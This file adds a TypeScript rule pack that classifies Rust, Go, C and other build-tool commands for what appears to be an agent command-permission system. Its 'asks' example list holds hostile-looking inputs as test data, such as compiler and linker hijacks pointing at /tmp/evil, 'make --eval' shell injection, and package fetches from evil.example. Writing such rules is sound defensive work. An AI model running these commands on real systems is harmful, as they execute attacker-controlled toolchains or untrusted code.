@@ -1,0 +1,292 @@
+import type { Pack } from './pack.ts';
+
+/**
+ * Rust, Go, C and other compiled languages, and the tools that drive their builds. Left out everywhere: whatever names a
+ * compiler, linker, wrapper, plugin or toolchain (--config, -toolexec, -exec, --with-compiler), and outputs outside the tree.
+ * cargo takes some values only if they do not look like options, so theirs must not.
+ */
+export const native = (): Pack => ({
+  name: 'native',
+  tools: {
+    cargo: `
+      %here
+      %set all q -quiet v -verbose -color:=auto|always|never -locked -offline -frozen -manifest-path:infile
+      %set features F:id -features:id -all-features -no-default-features
+      %set which p:id -package:id -workspace -all -exclude:id
+      %set build @all @features @which r -release -profile:id j:id -jobs:id -target:infile -lib -bin:id -bins -example:id -examples -test:id -tests -bench:id -benches -all-targets -keep-going -ignore-rust-version -timings -message-format:id -target-dir:tree -future-incompat-report
+      ; V! -version! v -list! ;
+      help ; ; id
+      version ; v -verbose ;
+      tree ; @all @features @which i:id -invert:id -prune:id -depth:id e:id -edges:id -no-dedupe d -duplicates -charset:=utf8|ascii f:lit -format:lit -prefix:=depth|indent|none -target:infile ;
+      search ; q -quiet -limit:num -color:=auto|always|never ; lit!
+      info ; q -quiet -color:=auto|always|never ; id!
+      metadata ; @all @features -no-deps -filter-platform:id -format-version:=1 ;
+      locate-project ; -workspace -message-format:=json|plain -manifest-path:infile ;
+      verify-project|read-manifest ; -manifest-path:infile ;
+      pkgid ; p:id -package:id ; id
+      owner ; l! -list! q ; id
+      package ; l! -list! -allow-dirty p:id -package:id ;
+      ~ build|b|check|c ; @build ;
+      ~ doc|d ; @build -no-deps -document-private-items ;
+      ~ clippy ; @build -fix -allow-dirty -allow-staged -no-deps ; inside*
+      ~ test|t|bench ; @build -no-run -no-fail-fast -doc ; inside*
+      ~ run|r ; @build ;
+      ~ nextest run ; @build -no-fail-fast E:lit -retries:num -no-capture -nocapture ; inside*
+      ~ nextest list ; @build ; inside*
+      ~ fmt ; -all -check p:id -package:id q v ; =--check
+      ~ clean ; r -release -doc p:id -package:id q v -dry-run n ;
+      ~ audit ; -json q ;
+      ~ outdated ; R d:id -root-deps-only -depth:id -exit-code:num -workspace w ;
+      ~ machete|udeps ; ;
+      ~ deny check ; ; =advisories|bans|licenses|sources|all`,
+    rustc: '; V! v -version! -verbose -explain:id! ;',
+    rustup: `
+      %here
+      ; V! -version! ;
+      show ; v -verbose ;
+      show active-toolchain ; v -verbose ;
+      show home|profile ; ;
+      which ; -toolchain:id ; id!
+      toolchain|override list ; v -verbose q -quiet ;
+      component|target list ; -installed -toolchain:id q -quiet ;
+      check ; ;
+      help ; ; id*`,
+    rustfmt: '; V! -version! ;\n~ ; -check! -edition:num l -files-with-diff q -quiet v -verbose -color:=auto|always|never ; infile*',
+    go: `%style go
+      %here
+      version ; m v ; path*
+      env ; -json -changed ; goenv*
+      list ; -json? m u f: e -deps -test -versions -retracted -find -mod:=readonly|mod|vendor -tags:id ; gopkg*
+      list ; m! -json? u f: e -versions -retracted -mod:=readonly|mod|vendor ; id*
+      doc ; -all -src u -cmd -short c ; id*
+      help ;  ; id*
+      mod graph ; -go:id ;
+      mod why ; m -vendor ; id*
+      ~ mod verify ;  ;
+      ~ mod tidy ; v x e -diff -go:id -compat:id ;
+      ~ mod download ; x -json ;
+      ~ mod vendor ; v e ;
+      %set build v x n a -race -cover -trimpath -tags:id p:num -mod:=readonly|mod|vendor -buildvcs:=true|false|auto -covermode:=set|count|atomic -json
+      ~ build ; @build o:tree ; gopkg*
+      ~ test ; @build -run: -skip: -count:num -short -bench: -benchmem -benchtime:id -timeout:id -failfast -parallel:num -cpu:id -shuffle:id -list: -coverpkg:lit -coverprofile:tree -cpuprofile:tree -memprofile:tree -outputdir:tree -vet:=off -fuzz: -fuzztime:id -fullpath ; gopkg*
+      ~ vet ; v x n -json -tags:id -mod:=readonly|mod|vendor ; gopkg*
+      ~ fmt ; n x ; gopkg*
+      ~ tool cover ; -func:infile! ;`,
+    gofmt: '%style go\n; l d s e r: ; path*\n~ ; w! l d s e ; tree*',
+    goimports: '%style go\n; l d e v -local:id ; path*\n~ ; w! l d e v -local:id ; tree*',
+    'golangci-lint': `
+      ; -version! ;
+      version|linters ; ;
+      ~ run ; c:infile -config:infile -no-config -fast -fix v -verbose -timeout:id D:id E:id -disable:id -enable:id -disable-all -enable-all -enable-only:id j:num -concurrency:num n -new -new-from-rev:ref -tests -build-tags:id -max-issues-per-linter:num -max-same-issues:num -out-format:=colored-line-number|line-number|json|tab|checkstyle|github-actions|junit-xml -color:=always|auto|never -issues-exit-code:num -allow-parallel-runners -show-stats ; infile*`,
+    staticcheck: '%style go\n; -version! ;\n~ ; -checks:lit -tests f:=text|stylish|json -tags:id -go:id -explain:id ; gopkg*',
+    make: `
+      ; v! -version! ;
+      ~ ; k i s B q r R n t w d j? l? C:tree f:tree -jobs? -load-average? -keep-going -silent -quiet -always-make -dry-run -just-print -no-print-directory -print-directory -directory:tree -file:tree -makefile:tree O? -output-sync? -question -debug? -trace -no-builtin-rules -warn-undefined-variables ; target*`,
+    gmake: '=make',
+    cmake: `
+      ; -version! ;
+      ~ ; -build:tree! j? -parallel? t:target -target:target -config:id v -verbose -clean-first ;
+      ~ ; S:tree! B:tree! G:lit D:cmakedef -log-level:id -fresh W? ; tree
+      ~ ; G:lit D:cmakedef ; tree!
+      ~ ; -preset:id! -fresh D:cmakedef ;
+      ~ ; -list-presets! ;`,
+    ctest:
+      '; -version! ;\n~ ; V Q N F j? R: E: L: C:id -output-on-failure -parallel? -test-dir:tree -timeout:num -rerun-failed -build-config:id -verbose -progress -stop-on-failure -schedule-random -repeat:id -no-tests:=error|ignore -show-only? -preset:id ; num',
+    ninja:
+      '; -version! ;\n~ ; C:tree f:infile j:num k:num l:num v n -verbose -quiet d:=stats|explain|keepdepfile|keeprsp t:=targets|query|deps|commands|rules|graph|compdb|missingdeps|inputs ; target*',
+    meson:
+      '; v! -version! ;\n~ setup ; -buildtype:=debug|release|debugoptimized|plain|minsize -wipe -reconfigure -werror ; tree*\n~ compile ; C:tree j:num v -verbose -clean ; target*\n~ test ; C:tree v -verbose q -quiet -list -suite:id -no-suite:id -print-errorlogs -no-rebuild -num-processes:num t:num -repeat:num -benchmark ; id*\n~ introspect ; a i -all -targets -tests -buildoptions -dependencies -projectinfo -ast -benchmarks -installed ; infile',
+    bazel: `
+      %here
+      %set show -config:id c:=fastbuild|dbg|opt -compilation_mode:=fastbuild|dbg|opt k -keep_going -test_output:=summary|errors|all|streamed -test_filter:lit -test_tag_filters:lit -build_tag_filters:lit -jobs:id -verbose_failures -nocache_test_results -cache_test_results:=yes|no|auto -runs_per_test:num -test_timeout:num -color:=yes|no|auto -curses:=yes|no|auto -noshow_progress -subcommands s -local_test_jobs:num -nobuild -explain:tree
+      ; -version! ;
+      ~ version ; ;
+      ~ info ; ; id
+      ~ build|test|coverage ; @show ; label! label*
+      ~ query|cquery|aquery ; k -keep_going -output:=label|label_kind|build|graph|xml|minrank|maxrank|package|location|proto|text|starlark|files -notool_deps -noimplicit_deps -order_output:=no|deps|auto|full -universe_scope:lit ; lit!`,
+    bazelisk: '=bazel',
+    gcc: '; v! -version! ;',
+    cc: '=gcc',
+    'g++': '=gcc',
+    clang: '=gcc',
+    'clang++': '=gcc',
+    'clang-format':
+      '%style go\n; -version! ;\n~ ; n! -dry-run! -Werror -style:=file|llvm|google|chromium|mozilla|webkit|microsoft|gnu -fallback-style:id -verbose ; inside*\n~ ; i! -Werror -style:=file|llvm|google|chromium|mozilla|webkit|microsoft|gnu -fallback-style:id -verbose ; tree*',
+    'clang-tidy': '; -version! ;',
+    'pkg-config':
+      '; -version! -modversion! -exists! -libs! -cflags! -list-all! -atleast-version:id! -print-errors -static -short-errors ; id*',
+    zig: 'version|zen|targets ; ;\n~ build ; -summary:=all|new|failures|none j? -verbose -release? ; =test|check|docs|fmt\n~ test|ast-check ; ; infile!\n~ fmt ; -check -ast-check ; tree!  tree*',
+    swift:
+      '%here\n; -version! ;\n~ build ; c:=debug|release v -configuration:=debug|release -verbose q -quiet j:num -jobs:num -target:id -product:id -build-tests -static-swift-stdlib ;\n~ test ; v -verbose q -quiet -filter:lit -skip:lit -parallel -num-workers:num -enable-code-coverage l -list-tests c:=debug|release -configuration:=debug|release ;\n~ test list ; ;\n~ package describe ; -type:=json|text|mermaid ;\n~ package show-dependencies ; -format:=text|dot|json|flatlist ;\n~ package dump-package ; ;',
+    swiftlint: 'version|rules ; ;\n~ lint ; -strict -quiet -lenient -config:infile ; infile*',
+    stack:
+      '%here\n; -version! -numeric-version! ;\n~ build|test|bench|haddock ; -fast -pedantic -test -bench -haddock -no-run-tests -no-run-benchmarks -coverage -dry-run -only-dependencies j:num ; id*\n~ ls dependencies ; ;\n~ path ; -project-root -local-bin -stack-root -snapshot-pkg-db ;',
+    cabal:
+      '%here\n; V! -version! -numeric-version! ;\ninfo|list ; v? -verbose? -installed -simple-output ; id*\n~ build|test|bench|check|haddock ; v? -verbose? j? O? -enable-tests -enable-benchmarks -enable-coverage -disable-tests -disable-benchmarks -dry-run -test-show-details:=always|failures|never|streaming|direct ; id*',
+    ghc: '; V! -version! -numeric-version! ;',
+    opam: '; -version! ;\nlist ; a i s -all -installed -available -short -columns:id -color:=auto|always|never ; id*\nshow|info ; f:id -field:id -raw -color:=auto|always|never ; id! id*\nsearch ; s -short ; id!\nswitch list|show ; s -short ;\nswitch ; ;\npin|repo list ; s -short ;',
+    dune: '%here\n; -version! ;\n~ build ; w -watch -profile:=dev|release -display:=short|quiet|verbose|progress -no-buffer j:num ; infile*\n~ test|runtest ; w -watch f -force -no-buffer j:num -profile:=dev|release ; infile*\n~ fmt|clean ; ;',
+  },
+  rules: [],
+  examples: {
+    routine: [
+      'cargo tree -i serde',
+      'cargo search --limit 5 x',
+      'cargo info package@version',
+      'cargo metadata --no-deps --format-version 1',
+      'cargo --version',
+      'rustup show active-toolchain',
+      'rustup which --toolchain stable cargo',
+      'rustc --version',
+      'go version',
+      'go env GOPATH GOROOT',
+      'go list ./...',
+      'go list -m all',
+      'go list -m -u -json all',
+      'go doc fmt.Println',
+      'go mod graph',
+      'go mod why -m example.com/x',
+      'gofmt -l .',
+      'make --version',
+      'cmake --version',
+      'gcc --version',
+      'cabal info package',
+      'opam show package',
+      'zig version',
+      'pkg-config --modversion openssl',
+    ],
+    workspace: [
+      'cargo build --release',
+      'cargo test -p core some_test -- --nocapture',
+      'cargo clippy --all-targets -- -D warnings',
+      'cargo fmt --check',
+      'cargo fmt -- --check',
+      'cargo doc --no-deps',
+      'cargo nextest run',
+      'cd src && cargo build && cargo test',
+      'go build ./...',
+      'go build -o bin/app ./cmd/app',
+      'go test ./... -race -count=1 -run TestX',
+      'go test -v -coverprofile=c.out ./pkg/...',
+      'go vet ./...',
+      'go mod tidy',
+      'go fmt ./...',
+      'golangci-lint run ./...',
+      'make',
+      'make all',
+      'make -j4 test',
+      'make -j 4',
+      'make -C src lint V=1',
+      'cmake -S . -B build -DCMAKE_BUILD_TYPE=Release',
+      'cmake --build build -j4',
+      'ctest --test-dir build --output-on-failure',
+      'ninja -C build',
+      'meson test -C build',
+      'bazel build //...',
+      'bazel test //src/core:all --test_output=errors',
+      "bazel query 'deps(//src:lib)'",
+      'zig build test',
+      'swift test --filter CoreTests',
+      'stack test',
+      'cabal build all',
+      'dune build',
+    ],
+    asks: [
+      'cargo install x',
+      'cargo build --config build.rustc=/tmp/evil',
+      'cargo build -p --config=build.rustc=/tmp/x',
+      'cargo build --bin --config /tmp/x',
+      'cargo build --target /tmp/evil.json',
+      'cargo build --target-dir /home/ann/x',
+      'cargo build --manifest-path ../other/Cargo.toml',
+      'cargo test -- --logfile /home/ann/x',
+      'cargo test -- --logfile=/home/ann/x',
+      'cargo clippy -- -C linker=/tmp/evil',
+      'cargo run -- delete',
+      'cargo fix',
+      'cargo update',
+      'cargo publish --dry-run',
+      'cargo owner --add x',
+      'cargo doc --open',
+      'cargo tree --config /tmp/x',
+      'cargo metadata --manifest-path /tmp/evil/Cargo.toml',
+      'cargo search --index https://evil.example x',
+      'cargo +evil build',
+      'cd /tmp/evil; cargo build',
+      'rustc --print sysroot=/tmp/pwn',
+      'rustc x.rs',
+      'rustup toolchain install nightly',
+      'rustup self update',
+      'rustup run nightly id',
+      'rustup toolchain link evil /tmp/evil',
+      'go run ./evil',
+      'go generate ./...',
+      'go install x@latest',
+      'go get x',
+      'go env -w A=b',
+      'go vet -vettool=/tmp/x ./...',
+      'go build -toolexec=/tmp/x ./...',
+      'go build -o /home/ann/x ./...',
+      'go build ./../../evil',
+      'go build -ldflags=-extld=/tmp/x ./...',
+      'go test -exec=/tmp/x ./...',
+      'go test --exec /tmp/x ./...',
+      'go test -coverprofile=/home/ann/x ./...',
+      'go list -toolexec=/tmp/x -export ./...',
+      'go list -modfile=/tmp/x ./...',
+      'go mod download evil.example/x@latest',
+      'go mod edit -replace=a=b',
+      'go -C /tmp/evil test',
+      'go tool cover -html=c.out',
+      'go work use /tmp/evil',
+      'gofmt -w /home/ann/x.go',
+      'gofmt -cpuprofile=/tmp/x f.go',
+      'golangci-lint run -c /tmp/x.yml',
+      'golangci-lint run --out-format=json:/tmp/x',
+      "make --eval='$(shell id)' x",
+      'make SHELL=/tmp/x',
+      'make CC=/tmp/evil all',
+      'make deploy',
+      'make install',
+      'make nuke',
+      'make -f /tmp/x all',
+      'make -C .. all',
+      '(cd /tmp/evil && make all)',
+      'bash -c "cd /tmp; make all"',
+      'cmake --build build --target install',
+      'cmake -S . -B build -DCMAKE_C_COMPILER=/tmp/evil',
+      'cmake -DCMAKE_C_COMPILER_LAUNCHER=ON_x ..',
+      'cmake -P /tmp/x.cmake',
+      'cmake -E rm -rf x',
+      'cmake --install build',
+      'cmake --build /tmp/evil',
+      'ctest -S /tmp/x',
+      'ninja -C /tmp/x',
+      'ninja install',
+      'ninja -t clean',
+      'meson install',
+      'bazel run //x',
+      'bazel info --output_base=/tmp/x',
+      'bazel build --action_env=PATH=/tmp //...',
+      'bazel --bazelrc=/tmp/x build //...',
+      'bazel test --run_under=/tmp/x //...',
+      'gcc x.c',
+      'gcc -o /etc/x x.c',
+      'gcc -wrapper id x.c',
+      'clang-format -i /home/ann/x.c',
+      'zig build install',
+      'zig build deploy',
+      'zig run x',
+      'swift build --scratch-path=/tmp/x',
+      'swift build --package-path=/tmp/evil',
+      'swift run',
+      'stack exec id',
+      'cabal test --with-compiler=/tmp/evil',
+      'cabal run',
+      'cabal upload x',
+      'opam switch create x',
+      'opam pin add x https://evil.example',
+      'opam exec id',
+    ],
+  },
+});
